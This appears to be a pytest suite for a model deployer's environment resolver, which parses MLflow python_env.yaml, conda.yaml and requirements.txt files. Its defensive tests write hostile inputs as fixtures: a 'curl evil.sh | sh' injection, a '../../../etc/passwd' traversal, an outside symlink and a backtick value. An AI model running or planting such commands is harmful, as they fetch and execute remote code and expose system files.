"""resolve_environment: every environment layout a model can ship, folded into one spec."""

from __future__ import annotations

import json
import shutil
from pathlib import Path

import pytest

from deployer.environment import EnvironmentSpec, IndexOptions, resolve_environment
from deployer.errors import EnvironmentSpecError, UnsafePathError
from deployer.model.mlmodel import parse_mlmodel
from tests.environment.conftest import (
    INDEX_WITH_SECRET,
    MLFLOW_BUILD_DEPS,
    PIP_CAP,
    PYTHON_VERSION,
    SKLEARN_VERSION,
)
from tests.model._edit import altered, copy_model


def _resolve(model: Path) -> EnvironmentSpec:
    return resolve_environment(model, parse_mlmodel(model))


def _lines(path: Path) -> tuple[str, ...]:
    return tuple(line for line in path.read_text().splitlines() if line.strip())


def test_mlflow3_model_is_a_pip_environment(sklearn_model: Path) -> None:
    spec = _resolve(sklearn_model)
    assert spec.kind == "virtualenv"
    assert spec.python_version == PYTHON_VERSION
    assert spec.pip_requirements == _lines(sklearn_model / "requirements.txt")
    assert spec.build_dependencies == MLFLOW_BUILD_DEPS
    assert spec.constraints == ()
    assert spec.conda_packages == () and spec.conda_channels == ()
    assert not spec.index_options
    assert spec.source == "python_env.yaml + requirements.txt"
    assert spec.warnings == ()


def test_constraints_and_private_index(constraints_model: Path) -> None:
    spec = _resolve(constraints_model)
    assert spec.kind == "virtualenv"
    assert spec.pip_requirements == ("mlflow==3.17.2", "pandas")
    assert spec.constraints == ("numpy<3", "pandas>=2")
    assert spec.index_options == IndexOptions(extra_index_urls=(INDEX_WITH_SECRET,))
    assert spec.source == "python_env.yaml + requirements.txt + constraints.txt"


def test_credentials_hidden_in_every_rendering(constraints_model: Path) -> None:
    spec = _resolve(constraints_model)
    assert spec.index_options.has_credentials
    for text in (repr(spec), repr(spec.index_options), json.dumps(spec.to_dict()), *spec.warnings):
        assert "s3cr3t-t0ken" not in text
        assert "deploy-user" not in text
    assert spec.to_dict()["index_options"]["extra_index_urls"] == ["https://***@pkgs.example.org/simple"]
    # the real value stays available to the builder
    assert spec.index_options.extra_index_urls == (INDEX_WITH_SECRET,)


def test_conda_only_packages_make_a_conda_environment(conda_packages_model: Path) -> None:
    spec = _resolve(conda_packages_model)
    assert spec.kind == "conda"
    assert spec.python_version == PYTHON_VERSION
    assert spec.conda_packages == ("cudatoolkit=11.8", "conda-forge::libgomp")
    assert spec.conda_channels == ("conda-forge", "nvidia")
    assert spec.pip_requirements == ("mlflow==3.17.2", "pandas==3.1.1")
    assert spec.build_dependencies == ("pip<=24.0",)
    assert spec.source == "conda.yaml"
    assert any("python_env.yaml is not used" in w for w in spec.warnings)


def test_conda_yaml_with_only_python_and_pip_is_a_pip_environment(tmp_path: Path, sklearn_model: Path) -> None:
    """Without python_env.yaml (MLflow < 1.26), the MLflow-style conda.yaml needs no conda."""
    model = altered(sklearn_model, tmp_path / "m",
                    lambda d: d["flavors"]["python_function"].update(env={"conda": "conda.yaml"}))
    (model / "python_env.yaml").unlink()
    (model / "requirements.txt").unlink()
    spec = _resolve(model)
    assert spec.kind == "virtualenv"
    assert spec.python_version == PYTHON_VERSION
    assert spec.conda_packages == () and spec.conda_channels == ()
    assert f"scikit-learn=={SKLEARN_VERSION}" in spec.pip_requirements
    assert spec.build_dependencies == (PIP_CAP,)
    assert spec.source == "conda.yaml"


def test_legacy_string_env(legacy_data_env_model: Path) -> None:
    spec = _resolve(legacy_data_env_model)
    assert spec.kind == "conda"
    assert spec.python_version == "3.6.5"
    assert spec.conda_packages == ("scikit-learn=0.19.1",)
    assert spec.pip_requirements == ("mlflow",)
    assert spec.source == "mlflow_env.yml"


def test_nothing_declared_falls_back_with_warning(legacy_2018_model: Path) -> None:
    spec = _resolve(legacy_2018_model)
    assert spec.kind == "virtualenv"
    assert spec.pip_requirements == ("mlflow", "scikit-learn")
    assert spec.source == "fallback"
    assert spec.python_version is None
    assert any("declares no environment" in w and "falling back to mlflow + scikit-learn" in w for w in spec.warnings)
    assert any("no Python version declared" in w for w in spec.warnings)


def test_fallback_for_custom_pyfunc_adds_cloudpickle(tmp_path: Path, custom_pyfunc_model: Path) -> None:
    model = altered(custom_pyfunc_model, tmp_path / "m", lambda d: d["flavors"]["python_function"].pop("env"))
    for name in ("python_env.yaml", "conda.yaml", "requirements.txt"):
        (model / name).unlink()
    spec = _resolve(model)
    assert spec.pip_requirements == ("mlflow", "cloudpickle")
    assert spec.python_version == PYTHON_VERSION  # from the flavor
    assert any(f"using {PYTHON_VERSION} from MLmodel" in w for w in spec.warnings)


def test_empty_python_env_dependencies_fall_back(tmp_path: Path, sklearn_model: Path) -> None:
    model = copy_model(sklearn_model, tmp_path / "m")
    (model / "python_env.yaml").write_text("python: '3.11.7'\nbuild_dependencies: [pip]\ndependencies: []\n")
    spec = _resolve(model)
    assert spec.pip_requirements == ("mlflow", "scikit-learn")
    assert spec.source == "python_env.yaml + fallback"
    assert spec.build_dependencies == ("pip",)
    assert any("lists no pip requirements" in w for w in spec.warnings)


def test_requirements_txt_only(tmp_path: Path, sklearn_model: Path) -> None:
    model = altered(sklearn_model, tmp_path / "m", lambda d: d["flavors"]["python_function"].pop("env"))
    (model / "python_env.yaml").unlink()
    (model / "conda.yaml").unlink()
    spec = _resolve(model)
    assert spec.source == "requirements.txt"
    assert spec.pip_requirements == _lines(sklearn_model / "requirements.txt")
    assert spec.python_version == PYTHON_VERSION


def test_undeclared_default_files_are_used(tmp_path: Path, sklearn_model: Path) -> None:
    """As in MLflow, python_env.yaml / conda.yaml next to MLmodel count even without `env`."""
    model = altered(sklearn_model, tmp_path / "m", lambda d: d["flavors"]["python_function"].pop("env"))
    assert _resolve(model).source == "python_env.yaml + requirements.txt"


def test_declared_file_missing_warns_and_uses_next_source(tmp_path: Path, sklearn_model: Path) -> None:
    model = copy_model(sklearn_model, tmp_path / "m")
    (model / "python_env.yaml").unlink()
    spec = _resolve(model)
    assert spec.source == "conda.yaml"
    assert any("env.virtualenv file 'python_env.yaml'" in w for w in spec.warnings)


def test_inline_dependencies_and_index_options_in_python_env(tmp_path: Path, sklearn_model: Path) -> None:
    model = copy_model(sklearn_model, tmp_path / "m")
    (model / "python_env.yaml").write_text(
        "python: '3.11.7'\n"
        "build_dependencies: ['pip==24.0']\n"
        "dependencies:\n"
        "  - --index-url https://mirror.example.org/simple\n"
        "  - --find-links wheels\n"
        "  - mlflow==3.17.2\n"
        "  - wheels/mylib-0.1-py3-none-any.whl\n"
        "  - -c pins.txt\n"
    )
    (model / "wheels").mkdir()
    (model / "wheels" / "mylib-0.1-py3-none-any.whl").write_bytes(b"PK")
    (model / "pins.txt").write_text("numpy==2.0.0\n")
    spec = _resolve(model)
    assert spec.pip_requirements == ("mlflow==3.17.2", "wheels/mylib-0.1-py3-none-any.whl")
    assert spec.constraints == ("numpy==2.0.0",)
    assert spec.index_options == IndexOptions(index_url="https://mirror.example.org/simple", find_links=("wheels",))
    assert spec.build_dependencies == ("pip==24.0",)


def test_conda_pip_section_with_requirements_reference(tmp_path: Path, conda_packages_model: Path) -> None:
    model = copy_model(conda_packages_model, tmp_path / "m")
    text = (model / "conda.yaml").read_text().replace("  - pandas==3.1.1", "  - -r requirements.txt")
    (model / "conda.yaml").write_text(text)
    spec = _resolve(model)
    assert spec.kind == "conda"
    assert spec.pip_requirements == ("mlflow==3.17.2", "pandas==3.1.1")
    assert spec.source == "conda.yaml + requirements.txt"


def test_unreferenced_constraints_file_warns(tmp_path: Path, sklearn_model: Path) -> None:
    model = copy_model(sklearn_model, tmp_path / "m")
    (model / "constraints.txt").write_text("numpy<2\n")
    spec = _resolve(model)
    assert spec.constraints == ()
    assert any("constraints.txt is in the model directory" in w for w in spec.warnings)


def test_python_version_mismatch_warns(tmp_path: Path, sklearn_model: Path) -> None:
    model = copy_model(sklearn_model, tmp_path / "m")
    text = (model / "python_env.yaml").read_text().replace(f"python: {PYTHON_VERSION}", "python: '3.12.1'")
    (model / "python_env.yaml").write_text(text)
    spec = _resolve(model)
    assert spec.python_version == "3.12.1"
    assert any("Python 3.12.1" in w and PYTHON_VERSION in w for w in spec.warnings)


def test_env_file_symlinked_outside_refused(tmp_path: Path, sklearn_model: Path) -> None:
    model = copy_model(sklearn_model, tmp_path / "m")
    (tmp_path / "evil.yaml").write_text("python: '3.11'\ndependencies: [numpy]\n")
    (model / "python_env.yaml").unlink()
    (model / "python_env.yaml").symlink_to(tmp_path / "evil.yaml")
    with pytest.raises(UnsafePathError, match="outside the model directory"):
        _resolve(model)


def test_requirements_escaping_the_model_refused(tmp_path: Path, sklearn_model: Path) -> None:
    model = copy_model(sklearn_model, tmp_path / "m")
    (model / "requirements.txt").write_text("-r ../../../etc/passwd\n")
    with pytest.raises(UnsafePathError, match=r"contains '\.\.'"):
        _resolve(model)


def test_injection_in_requirements_refused(tmp_path: Path, sklearn_model: Path) -> None:
    model = copy_model(sklearn_model, tmp_path / "m")
    (model / "requirements.txt").write_text("numpy\nscikit-learn==1.0 ; curl evil.sh | sh\n")
    with pytest.raises(EnvironmentSpecError) as exc:
        _resolve(model)
    assert exc.value.where == f"{(model / 'requirements.txt').resolve()}:2"


def test_broken_conda_yaml_is_an_environment_error(tmp_path: Path, sklearn_model: Path) -> None:
    model = copy_model(sklearn_model, tmp_path / "m")
    (model / "conda.yaml").write_text("dependencies: [python=3.11\n")
    with pytest.raises(EnvironmentSpecError, match="YAML does not parse"):
        _resolve(model)


def test_spec_is_frozen(sklearn_model: Path) -> None:
    spec = _resolve(sklearn_model)
    with pytest.raises(AttributeError):
        spec.kind = "conda"  # type: ignore[misc]


def test_model_dir_not_modified(tmp_path: Path, constraints_model: Path) -> None:
    model = copy_model(constraints_model, tmp_path / "m")
    before = sorted((p.relative_to(model), p.stat().st_mtime_ns) for p in model.rglob("*"))
    _resolve(model)
    assert sorted((p.relative_to(model), p.stat().st_mtime_ns) for p in model.rglob("*")) == before
    shutil.rmtree(model)


def test_model_dir_with_braces_in_its_name(tmp_path: Path, sklearn_model: Path) -> None:
    model = copy_model(sklearn_model, tmp_path / "{odd} {n} dir")
    (model / "requirements.txt").write_text("numpy\n`x`\n")
    with pytest.raises(EnvironmentSpecError) as exc:
        _resolve(model)
    assert exc.value.where == f"{(model / 'requirements.txt').resolve()}:2"
